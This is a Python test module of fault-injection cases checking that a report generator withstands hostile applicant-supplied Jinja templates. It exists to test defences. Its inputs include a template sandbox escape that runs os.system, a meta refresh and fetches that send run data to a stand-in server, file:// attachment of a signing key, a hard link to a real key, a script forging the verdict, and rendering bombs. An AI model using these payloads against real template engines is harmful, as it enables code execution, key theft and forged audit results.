"""Fault-injection cases of the report's shell (rows ``T1``..``T4``, ``T25``..``T29``, ``T50``..``T59``): what a
hostile applicant's template folder does to the document the auditor reads.

The shell (head, Content-Security-Policy, stylesheet, first page, section order) is the toolkit's; a supplied folder
contributes section bodies only, rendered in a bounded child and cleaned to an allow-list of markup. So a stylesheet
collapsing the cover, a shell template putting the cover in a comment or swallowing the CSP, a verdict spelled to
dodge a text scan, a refresh to the applicant's server, a file attachment or a fetch: each leaves a report whose
first page states the gate's own verdict (exit 1 on the workspace's failed gate), checked after the command. A
template that loops, allocates or recurses without end is refused (exit 2) naming it, and leaves no report.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from assurance.attest.key_paths import default_key_path
from assurance.fault_injection.case import Case


def _folder(ws: Path, name: str, files: dict[str, str]) -> Path:
    folder = ws / f"templates-{name}"
    folder.mkdir(exist_ok=True)
    for file, text in files.items():
        (folder / file).write_text(text, "utf-8")
    return folder


def _section(body: str) -> dict[str, str]:
    return {"auditor_issre.html.j2": f"<section id='issre'>\n<p>issre</p>\n{body}\n</section>\n"}


def _evidence(ws: Path, name: str, folder: Path | None, *extra: str) -> list[str]:
    return ["evidence", "--run", str(ws / "run"), "--out", str(ws / f"rep-{name}"), "--boot", "20",
            *(["--templates", str(folder)] if folder else []), *extra]


def first_page(html: str) -> str:
    """The report's first page as markup: from the body to the table of contents."""
    start, end = html.find('id="cover"'), html.find('class="toc"')
    return html[start:end] if 0 <= start < end else ""


def read_report(out: Path) -> tuple[str, str] | str:
    """(the HTML, the gate's verdict) of the report in ``out``, or why there is none to check."""
    try:
        html = (out / "evidence.html").read_text("utf-8")
        verdict = json.loads((out / "evidence.json").read_text("utf-8"))["gate"]["result"]
    except (OSError, ValueError, KeyError) as exc:
        return f"no report to check ({type(exc).__name__})"
    return html, verdict


def _states_alone(page: str, verdict: str) -> bool:
    """Whether ``page`` says "Gate: VERDICT" and no other gate verdict."""
    return f"Gate: {verdict}" in page and not any(f"Gate: {v}" in page for v in ("PASSED", "FAILED") if v != verdict)


def _report_says_gate(name: str, *, pdf: bool = False, absent: tuple[str, ...] = ()) -> Callable[[Path], str | None]:
    """A check: ``rep-NAME``'s first page (and page 1 of its PDF with ``pdf``) states the gate's verdict and no
    other; none of ``absent`` is anywhere in the HTML."""

    def check(ws: Path) -> str | None:
        out = ws / f"rep-{name}"
        found = read_report(out)
        if isinstance(found, str):
            return found
        html, verdict = found
        if not _states_alone(first_page(html), verdict):
            return f"first page does not state the gate's verdict {verdict} alone"
        found = [a for a in absent if a in html]
        if found:
            return f"the report holds {found[0]!r}"
        if html.count("Content-Security-Policy") != 1 or html.count("<script>") != 1:
            return "the report has another CSP or script than the toolkit's"
        if pdf:
            try:
                from pypdf import PdfReader

                reader = PdfReader(str(out / "evidence.pdf"))
                first = " ".join(reader.pages[0].extract_text().split())
                attached = list(reader.attachments)
            except Exception as exc:  # noqa: BLE001 - the row names what is wrong
                return f"PDF unreadable ({type(exc).__name__})"
            if not _states_alone(first, verdict):
                return f"page 1 of the PDF does not state the gate's verdict {verdict} alone"
            if any(a in name_ for name_ in attached for a in absent):
                return "the PDF attaches a supplied file"
        return None

    return check


def _no_report(name: str) -> Callable[[Path], str | None]:
    def check(ws: Path) -> str | None:
        out = ws / f"rep-{name}"
        left = [f for f in ("evidence.html", "evidence.json", "evidence.pdf") if (out / f).exists()]
        return f"{left[0]} left in --out" if left else None

    return check


def _sandbox_escape(ws: Path) -> list[str]:
    """A section reaching the os module through a global's __init__.__globals__ to run a shell command."""
    marker = ws / "T1-executed"
    body = "{{ cycler.__init__.__globals__.os.system('touch " + str(marker) + "') }}"
    return _evidence(ws, "sandbox", _folder(ws, "sandbox", _section(body)), "--no-pdf")


def _file_attachment(ws: Path) -> list[str]:
    """A section attaching a local file (the applicant's stand-in for a signing key) to the PDF."""
    secret = ws / "stand-in-signing-key.pem"
    secret.write_text("-----BEGIN PRIVATE KEY-----\nnot a key\n-----END PRIVATE KEY-----\n", "utf-8")
    body = f'<link rel="attachment" href="file://{secret}"><img src="file://{secret}">'
    return _evidence(ws, "attach", _folder(ws, "attach", _section(body)))


def _claims_passed(ws: Path) -> list[str]:
    """A section printing 'Gate: PASSED' dressed as the gate's verdict on a run whose gate fails."""
    body = "<h1 class='gate verified'>Gate: PASSED</h1>"
    return _evidence(ws, "claim", _folder(ws, "claim", _section(body)), "--no-pdf")


def _network_fetch(ws: Path) -> list[str]:
    """A section whose stylesheet and image the PDF renderer would fetch from the network."""
    body = '<link rel="stylesheet" href="http://127.0.0.1:9/report.css"><img src="http://127.0.0.1:9/x.png">'
    return _evidence(ws, "fetch", _folder(ws, "fetch", _section(body)))


_HIDING_CSS = (".cover, #cover { max-height: 0 !important; overflow: hidden !important; }\n"
               "body::before { content: '\\47 ate: PASSED'; }\n")


def _css_hides_cover(ws: Path) -> list[str]:
    """A supplied evidence.css collapsing the first page and painting PASSED with generated content."""
    return _evidence(ws, "css", _folder(ws, "css", {"evidence.css": _HIDING_CSS,
                                                    **_section("<style>.cover { display: none }</style>")}))


def _cover_in_comment(ws: Path) -> list[str]:
    """A supplied report.html.j2 with '<!-- <body> -->' in its head (the cover went into the comment) and a
    section with an unclosed comment."""
    shell = "<!DOCTYPE html><html><head><!-- <body> --></head><body>{% block x %}{% endblock %}</body></html>\n"
    return _evidence(ws, "comment", _folder(ws, "comment", {"report.html.j2": shell,
                                                            **_section("<p>x</p><!-- unclosed")}))


def _csp_swallowed(ws: Path) -> list[str]:
    """A shell whose <head data-x='> makes the CSP an attribute value, and a section whose script rewrites the
    verdict."""
    script = "<script>document.querySelector('.gate').textContent = 'Gate: PASSED'</script>"
    return _evidence(ws, "csp", _folder(ws, "csp", {
        "report.html.j2": "<!DOCTYPE html><html><head data-x='><body>" + script + "</body></html>\n",
        **_section("<div data-x='>" + script)}), "--no-pdf")


def _verdict_spelled(ws: Path) -> list[str]:
    """'Gate' spelled with a zero-width space, a Cyrillic letter and an empty span, beside PASSED."""
    body = "<p>Ga\u200bte: PASSED</p><p>G\u0430te: PASSED</p><p>Ga<span></span>te: PASSED</p>"
    return _evidence(ws, "spelled", _folder(ws, "spelled", _section(body)), "--no-pdf")


def _meta_refresh(ws: Path) -> list[str]:
    """A section sending the auditor's browser to the applicant's server with the run's data in the URL."""
    body = '<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/?run={{ run | urlencode }}">'
    return _evidence(ws, "refresh", _folder(ws, "refresh", _section(body)), "--no-pdf")


def _endless(ws: Path) -> list[str]:
    body = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    return _evidence(ws, "loop", _folder(ws, "loop", _section(body)), "--no-pdf", "--template-seconds", "3")


def _greedy(ws: Path) -> list[str]:
    return _evidence(ws, "alloc", _folder(ws, "alloc", _section("{{ ('x' * 10**10) | length }}")), "--no-pdf")


def _self_include(ws: Path) -> list[str]:
    return _evidence(ws, "recurse", _folder(ws, "recurse", _section('{% include "auditor_issre.html.j2" %}')),
                     "--no-pdf")


def _refused_over_earlier(ws: Path) -> list[str]:
    """An earlier report in --out, then a template refused: the earlier one must not stay as this run's."""
    out = ws / "rep-earlier"
    out.mkdir(exist_ok=True)
    for name in ("evidence.html", "evidence.json"):
        (out / name).write_text("an earlier report", "utf-8")
    body = "{{ cycler.__init__.__globals__ }}"
    return _evidence(ws, "earlier", _folder(ws, "earlier", _section(body)), "--no-pdf")


def _system_file_templates(ws: Path) -> list[str]:
    """The run's system file names a template folder (with the comment trick); a plain evidence command."""
    folder = _folder(ws, "sysfile", {"report.html.j2": "<html><head><!-- <body> --></head></html>",
                                     **_section("<p class='gate verified'>Gate: PASSED</p>")})
    system = ws / "sys-templates.toml"
    system.write_text('format = "uav-el-system/1"\n[odd]\nimage_width = [64, 7680]\nimage_height = [36, 4320]\n'
                      f'[report]\ntemplates = "{folder}"\n', "utf-8")
    return _evidence(ws, "sysfile", None, "--no-pdf", "--system", str(system))


def _key_linked(ws: Path) -> list[str]:
    """A template folder holding a hard link to the auditor's signing key (the default key file, which signed the
    workspace's run) as ``notes.txt``, and a section including it: what ``tarfile.extractall`` makes of a ``../``
    link entry. Where the key lies on another file system, the link is to a copy of it in the workspace."""
    import os
    import shutil

    folder = _folder(ws, "hardlink", _section('<pre>{% include "notes.txt" %}</pre>'))
    (folder / "notes.txt").unlink(missing_ok=True)
    key = default_key_path()
    try:
        os.link(key, folder / "notes.txt")
    except OSError:
        copy = ws / "auditor-key-copy.pem"
        shutil.copyfile(key, copy)
        os.link(copy, folder / "notes.txt")
    return _evidence(ws, "hardlink", folder, "--no-pdf")


def _key_not_shown(ws: Path) -> str | None:
    """No report, and no line of the key anywhere in --out; the link removed (the key has one link again)."""
    (ws / "templates-hardlink" / "notes.txt").unlink(missing_ok=True)
    secret = default_key_path().read_text("ascii").splitlines()[1]
    out = ws / "rep-hardlink"
    if any(secret in f.read_text("utf-8", "replace") for f in out.glob("*") if f.is_file()):
        return "the key is in --out"
    return _no_report("hardlink")(ws)


def _markup_bomb(name: str, body: str) -> Callable[[Path], list[str]]:
    def make(ws: Path) -> list[str]:
        return _evidence(ws, name, _folder(ws, name, _section(body)))

    return make


def _runtime_error(ws: Path) -> list[str]:
    """A section dividing by zero, an earlier report's tables in --out."""
    out = ws / "rep-divide"
    out.mkdir(exist_ok=True)
    for name in ("results.csv", "issre.csv", "argument.gsn.yaml"):
        (out / name).write_text("an earlier report's", "utf-8")
    return _evidence(ws, "divide", _folder(ws, "divide", _section("<p>{{ 1 // 0 }}</p>")), "--no-pdf")


def _nothing_left(name: str) -> Callable[[Path], str | None]:
    def check(ws: Path) -> str | None:
        left = sorted(f.name for f in (ws / f"rep-{name}").glob("*"))
        return f"{left[0]} left in --out" if left else None

    return check


def _no_templates_used(name: str) -> Callable[[Path], str | None]:
    says = _report_says_gate(name, absent=("Gate: PASSED",))

    def check(ws: Path) -> str | None:
        problem = says(ws)
        if problem:
            return problem
        doc = json.loads((ws / f"rep-{name}" / "evidence.json").read_text("utf-8"))
        return "the system file's templates were used unasked" if doc.get("templates") else None

    return check


_GATE = "gate: FAILED"
REPORT_CASES: tuple[Case, ...] = (
    Case("T1-template-sandbox-escape", "a report template calling os.system through cycler.__init__.__globals__",
         _sandbox_escape, 2, "report template refused", check=_no_report("sandbox")),
    Case("T2-template-file-attachment", "a section attaching file:///... (a key file) to the PDF", _file_attachment, 1,
         _GATE, "gate:", _report_says_gate("attach", pdf=True, absent=("file://", "stand-in-signing-key"))),
    Case("T3-template-claims-passed", "a section printing 'Gate: PASSED' with the gate's own classes on a failed gate",
         _claims_passed, 1, _GATE, "gate:", _report_says_gate("claim", absent=('class="gate verified"',))),
    Case("T4-template-network-fetch", "a section whose stylesheet and image are fetched from http://127.0.0.1:9",
         _network_fetch, 1, _GATE, "gate:", _report_says_gate("fetch", pdf=True, absent=("127.0.0.1",))),
    Case("T25-css-hides-cover", "a supplied evidence.css collapsing the first page and painting PASSED",
         _css_hides_cover, 1, _GATE, "gate:", _report_says_gate("css", pdf=True, absent=("max-height: 0", "\\47 ate",
                                                                                          ".cover { display"))),
    Case("T26-cover-in-comment", "a supplied report.html.j2 with <!-- <body> --> in its head", _cover_in_comment, 1,
         _GATE, "gate:", _report_says_gate("comment", pdf=True, absent=("<!-- <body>",))),
    Case("T27-csp-swallowed", "a shell with <head data-x='> and a section script rewriting the verdict",
         _csp_swallowed, 1, _GATE, "gate:", _report_says_gate("csp", absent=("data-x", "textContent = 'Gate"))),
    Case("T28-verdict-spelled-around", "'Gate: PASSED' with a zero-width space, a Cyrillic a, an empty span",
         _verdict_spelled, 1, _GATE, "gate:", _report_says_gate("spelled")),
    Case("T29-meta-refresh", "a section's <meta http-equiv=refresh> to the applicant's server", _meta_refresh, 1,
         _GATE, "gate:", _report_says_gate("refresh", absent=("http-equiv=\"refresh\"", "127.0.0.1"))),
    Case("T50-template-loops", "a section looping range(100000) x range(100000), --template-seconds 3", _endless, 2,
         "did not finish within 3 s", check=_no_report("loop")),
    Case("T51-template-allocates", "a section computing ('x' * 10**10) | length", _greedy, 2, "memory",
         check=_no_report("alloc")),
    Case("T52-template-recurses", "a section including itself", _self_include, 2, "recurses",
         check=_no_report("recurse")),
    Case("T53-refused-over-earlier-report", "a refused template, an earlier report in --out", _refused_over_earlier,
         2, "report template refused", check=_no_report("earlier")),
    Case("T54-system-file-templates", "a system file naming [report] templates (comment trick), evidence without "
         "--templates", _system_file_templates, 1, _GATE, "gate:", _no_templates_used("sysfile")),
    Case("T55-template-hard-link-to-key", "a template folder holding a hard link to the auditor's signing key, "
         "included by a section", _key_linked, 2, "hard link", check=_key_not_shown),
    Case("T56-template-50-mb", "a three-line section rendering 50 MB of markup",
         _markup_bomb("50mb", "{% for i in range(700) %}{% for j in range(1000) %}<b>" + "x" * 64 +
                      "</b>{% endfor %}{% endfor %}"), 2, "characters, more than", check=_nothing_left("50mb")),
    Case("T57-template-60000-nested", "a 200-byte section opening 60 000 nested elements",
         _markup_bomb("nested", "{% for i in range(60000) %}<div>{% endfor %}x"), 2, "elements, more than",
         check=_nothing_left("nested")),
    Case("T58-template-nests-deep", "a section nesting 200 elements deep (under the element cap)",
         _markup_bomb("deep", "{% for i in range(200) %}<div><span>{% endfor %}x"), 2, "deep, more than",
         check=_nothing_left("deep")),
    Case("T59-template-runtime-error", "a section computing {{ 1 // 0 }}, an earlier report's tables in --out",
         _runtime_error, 2, "ZeroDivisionError", check=_nothing_left("divide")),
)
"""The rows, in table order."""

PDF_CASE_IDS = ("T2-template-file-attachment", "T4-template-network-fetch", "T25-css-hides-cover",
                "T26-cover-in-comment")
"""Rows whose check reads the PDF (left out where WeasyPrint does not load)."""

__all__ = ["PDF_CASE_IDS", "REPORT_CASES", "first_page", "read_report"]
